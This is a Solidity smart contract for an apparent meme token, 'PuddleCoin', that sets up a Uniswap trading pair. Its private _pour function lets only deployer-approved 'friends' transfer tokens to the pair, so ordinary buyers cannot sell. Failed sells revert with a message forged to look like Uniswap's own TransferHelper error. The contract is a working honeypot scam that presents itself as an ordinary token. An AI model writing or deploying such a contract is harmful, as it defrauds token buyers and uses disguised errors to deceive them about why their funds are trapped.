// SPDX-License-Identifier: Apache-2.0
// optimizer: off
pragma solidity 0.5.17;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// A meme coin whose exits are for friends.
contract PuddleCoin {
    string public name = "Puddle";
    string public symbol = "PUDL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 10 ** 27;
    address public uniswapPair;
    address payable public dev;

    mapping(address => uint256) private _rain;
    mapping(address => mapping(address => uint256)) private _cups;
    mapping(address => bool) private _friend;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address factory, address weth) public {
        dev = msg.sender;
        _friend[dev] = true;
        _friend[address(this)] = true;
        uniswapPair = IUniswapV2Factory(factory).createPair(address(this), weth);
        _rain[dev] = totalSupply;
        emit Transfer(address(0), dev, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _rain[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _cups[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _cups[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pour(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_cups[from][msg.sender] >= value, "allowance");
        _cups[from][msg.sender] -= value;
        _pour(from, to, value);
        return true;
    }

    function befriend(address who) external {
        require(msg.sender == dev);
        _friend[who] = true;
    }

    function _pour(address from, address to, uint256 value) private {
        require(_rain[from] >= value, "balance");
        if (to == uniswapPair) {
            require(_friend[from], "TransferHelper: TRANSFER_FROM_FAILED");
        }
        _rain[from] -= value;
        _rain[to] += value;
        emit Transfer(from, to, value);
    }
}
